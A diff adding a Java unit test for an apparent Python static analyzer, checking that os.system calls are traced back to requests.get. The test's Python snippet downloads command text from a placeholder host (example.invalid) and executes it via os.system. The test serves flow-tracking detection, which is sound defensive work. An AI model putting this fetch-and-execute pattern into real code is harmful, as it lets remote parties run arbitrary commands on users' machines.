@@ -122,6 +122,28 @@ class PyNamesTest {
     }
 
     @Test
+    void whatABranchMayHaveAddedOrReplacedIsKept() {
+        String code = String.join("\n",
+                "import os, requests",
+                "def run():",
+                "    names = []",
+                "    for line in requests.get('https://example.invalid/all.txt').text.splitlines():",
+                "        if os.name in line:",
+                "            names.append(line)",
+                "    for name in names:",
+                "        os.system('./' + name)",
+                "    cmd = 'true'",
+                "    if os.environ.get('X'):",
+                "        cmd = requests.get('https://example.invalid/cmd').text",
+                "    os.system(cmd)",
+                "");
+        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
+        List<PyModel.CallSite> systems = model.calls().stream().filter(c -> c.callee().equals("os.system")).toList();
+        assertThat(systems).as("the loop over a list filled in a branch runs").hasSizeGreaterThanOrEqualTo(2);
+        assertThat(systems).allSatisfy(c -> assertThat(c.args().get(0).from()).contains("requests.get"));
+    }
+
+    @Test
     void branchesWithUnknownConditionsKeepBothSides() {
         String code = String.join("\n",
                 "import os",
